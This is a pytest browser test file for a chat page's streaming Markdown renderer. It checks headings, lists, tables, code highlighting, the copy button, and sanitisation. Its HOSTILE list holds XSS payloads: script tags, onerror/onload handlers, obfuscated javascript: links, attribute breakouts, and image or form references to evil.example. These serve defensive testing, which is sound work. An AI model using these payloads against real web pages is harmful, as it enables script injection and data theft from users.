"""Markdown on the server's page, in a real browser: what becomes of it, and what never may."""

from __future__ import annotations

import pytest
from support.browser import Browser
from support.chat_page import open_page
from support.serving import Server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RENDER = """
const [texts, size] = arguments;
return import('/ui/answer.js').then(({ Answer }) => texts.map((text) => {
  const place = document.createElement('div');
  document.body.append(place);
  const answer = new Answer(place);
  for (let i = 0; i < text.length; i += size) answer.write(text.slice(i, i + size));
  answer.end();
  const html = place.innerHTML, shown = place.textContent;
  place.remove();
  return { html, shown };
}))
"""
COPY = '<button type="button" class="copy">Copy</button>'
AWAY = 'target="_blank" rel="noopener noreferrer nofollow"'
SHOWN = {
    "plain\nand more": "<p>plain\nand more</p>",
    "# One #\n\ntwo": "<h3>One</h3><p>two</p>",
    "a **b *c*** ~~d~~ _e_": "<p>a <strong>b <em>c</em></strong> <del>d</del> <em>e</em></p>",
    "snake_case_name 2 * 3 * 4": "<p>snake_case_name 2 * 3 * 4</p>",
    "`a *b*` \\*c\\*": "<p><code>a *b*</code> *c*</p>",
    "- a\n- b\n  - c\n\n1. d": "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li>"
    "</ul><ol><li><p>d</p></li></ol>",
    "- [x] done": '<ul><li><input type="checkbox" disabled=""> <p>done</p></li></ul>',
    "> a\n> - b": "<blockquote><p>a</p><ul><li><p>b</p></li></ul></blockquote>",
    "a\n\n---\n\nb": "<p>a</p><hr><p>b</p>",
    "```py\nif x: # y\n```": f'<div class="code"><div class="code-head"><span>py</span>{COPY}</div>'
    '<pre tabindex="0"><code><span class="hl-word">if</span> x: '
    '<span class="hl-comment"># y</span></code></pre></div>',
    "[a](https://b.example) <https://c.example>": f'<p><a href="https://b.example" {AWAY}>a</a> '
    f'<a href="https://c.example" {AWAY}>https://c.example</a></p>',
}  # fmt: skip
HOSTILE = (
    "<script>window.bad = 1</script>",
    "<img src=x onerror='window.bad = 1'>",
    "<svg/onload=window.bad=1><iframe srcdoc='<script>parent.bad=1</script>'>",
    "[a](javascript:window.bad=1) [b](JaVaScRiPt:bad=1) [c](data:text/html,<script>bad=1</script>)",
    "[d]( javascript:bad=1) [e](\x01javascript:bad=1)",
    "[f](&#106;avascript:bad=1) <javascript:bad=1>",
    "![g](https://evil.example/?secret) ![h](x\" onerror=\"window.bad=1)",
    "[i](https://a.example\"onmouseover=\"window.bad=1) [j](https://a.example 'x' onclick='bad=1')",
    "```\"><script>window.bad=1</script>\n</code></pre><script>window.bad=1</script>\n```",
    "```html\n<script>window.bad = 1</script>\n```",
    "| <script>bad=1</script> | b |\n|---|---|\n| <img src=x onerror=bad=1> | `</td>` |",
    "# <b onclick=bad=1>x</b>\n> <style>*{display:none}</style>\n- <form action=//evil.example>",
    "<a href='javascript:bad=1'>x</a> <base href='//evil.example'> <meta http-equiv=refresh>",
    "`<script>bad=1</script>` **<script>bad=1</script>** [<script>](https://a.example)",
    "\\<script>bad=1\\</script> &lt;script&gt; \u202e<script>bad=1</script>",
    "```__proto__\nx\n```\n```constructor\nx\n```\n```toString\nx\n```",
    "@import 'https://evil.example'; url(https://evil.example)",
    "javascript:alert(1) vbscript:x https://a.example/<script>",
)  # fmt: skip
ENDLESS = ("*", "**a ", "_", "`", "``a", "[", "[a](", "![", "<", ">", "> ", "- ", "  ", "| ", "#",
           "~", "~~~", "\\", "http", "https://a.", "1. ", "-|", "a\n", "*a_", "(",
           "\t- ", "[a](b ")  # fmt: skip
FRAGMENTS = (
    "*", "**", "_", "__", "`", "```", "~~", "[", "](", ")", "!", "<", ">", "|", "-", "- ", "1. ",
    "#", "# ", "\n", "\n\n", "  ", "\t", "\\", "a", "word ", "https://a.example/x", "<script>",
    "---|---",
    "\"", "'", "javascript:", "é", "😀", "{", "}", "[ ] ", "> ",
)  # fmt: skip
ALLOWED = """
const names = new Set(('P H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR PRE CODE SPAN DIV STRONG EM DEL A ' +
  'TABLE TBODY TR TH TD INPUT BUTTON').split(' '));
const attributes = new Set(
  'class tabindex href target rel type disabled start style title data-source'.split(' '));
const place = document.createElement('template');
place.innerHTML = arguments[0]; // of a template: nothing in it runs
return [...place.content.querySelectorAll('*')].filter((e) => !names.has(e.tagName) ||
  [...e.attributes].some(({ name }) => !attributes.has(name)) ||
  (e.href && !/^(https?|mailto):/.test(e.href))).map((e) => e.outerHTML)
"""


@pytest.fixture(scope="module")
def opened(page: Browser, server: Server) -> Browser:
    open_page(page, server)
    return page


@pytest.mark.parametrize("text", SHOWN)
@pytest.mark.parametrize("size", [1, 1000])
def test_markdown_is_shown(opened: Browser, text: str, size: int) -> None:
    (found,) = opened.run(RENDER, [text], size)
    assert found["html"] == SHOWN[text]


def test_tables_are_shown(opened: Browser) -> None:
    (found,) = opened.run(RENDER, ["| a | b |\n|---|--:|\n| `c` | d\\|e |\n\nf"], 3)
    for part in ("<th>a</th>", "<td><code>c</code></td>", "text-align: right", "d|e", "<p>f</p>"):
        assert part in found["html"].replace(' style=""', "")


def test_hostile_text_runs_no_script(opened: Browser) -> None:
    """Nor does it make elements of its own, or have anything fetched."""
    opened.log()
    for found in opened.run(RENDER, list(HOSTILE), 7):
        assert opened.run(ALLOWED, found["html"]) == []
    assert opened.run("return window.bad ?? null") is None
    assert opened.log() == []


def test_hostile_text_is_shown_as_it_is(opened: Browser) -> None:
    for text in HOSTILE[:3]:
        (found,) = opened.run(RENDER, [text], 1)
        assert found["shown"] == text


@pytest.mark.parametrize("part", ENDLESS)
def test_long_text_of_one_mark_is_shown(opened: Browser, part: str) -> None:
    (found,) = opened.run(RENDER, [part * 20_000], 1 << 20)
    assert opened.run(ALLOWED, found["html"][:100_000]) == []


def test_a_text_in_pieces_is_shown_as_in_one(opened: Browser) -> None:
    """A few hundred texts of marks in any order, drawn by a generator with a seed."""
    texts = opened.run(
        "let seed = 1; const [parts] = arguments;"
        "const next = (n) => (seed = (seed * 48271) % 2147483647) % n;"
        "return Array.from({ length: 400 }, () =>"
        " Array.from({ length: next(40) }, () => parts[next(parts.length)]).join(''))",
        FRAGMENTS,
    )
    whole = opened.run(RENDER, texts, 1 << 20)
    pieces = opened.run(RENDER, texts, 2)
    for text, one, many in zip(texts, whole, pieces, strict=True):
        assert one["html"] == many["html"], text
        assert opened.run(ALLOWED, one["html"]) == [], text


def test_tokens_are_tinted_within_markdown(opened: Browser) -> None:
    found = opened.run(
        "return import('/ui/answer.js').then(({ Answer }) => {"
        "const place = document.createElement('div'); const answer = new Answer(place);"
        "answer.write('a **b', { source: 'target', rejected: [] });"
        "answer.write('c** d', { source: 'mtp', rejected: ['x\\n'] });"
        "answer.end(); return [place.innerHTML, place.textContent] })"
    )
    assert found[1] == "a bx⏎c d"
    assert found[0].count('data-source="mtp"') == 2
    assert found[0].count('class="rejected"') == 1


@pytest.mark.parametrize("is_secure", [True, False])
def test_code_is_copied(page: Browser, server: Server, is_secure: bool) -> None:
    """Also where the page came over plain HTTP: there a browser offers no clipboard."""
    open_page(page, server)
    page.permit("clipboardReadWrite", "clipboardSanitizedWrite")
    page.run(
        "return import('/ui/answer.js').then(({ Answer }) => {"
        "document.querySelector('#tab-chat').click();"
        "const place = document.createElement('li');"
        "document.querySelector('#messages').append(place);"
        "const answer = new Answer(place); answer.write(arguments[0]); answer.end(); })".replace(
            "arguments[0]", repr(f"```\n<b>\n  {is_secure}\n```")
        )
    )
    if not is_secure:
        page.run("window.real = navigator.clipboard;"
                 "Object.defineProperty(navigator, 'clipboard', { value: undefined })")  # fmt: skip
    page.click(".code .copy")
    page.wait("return document.querySelector('.code .copy').textContent === 'Copied'")
    found = page.run("return (window.real ?? navigator.clipboard).readText()")
    assert found == f"<b>\n  {is_secure}"
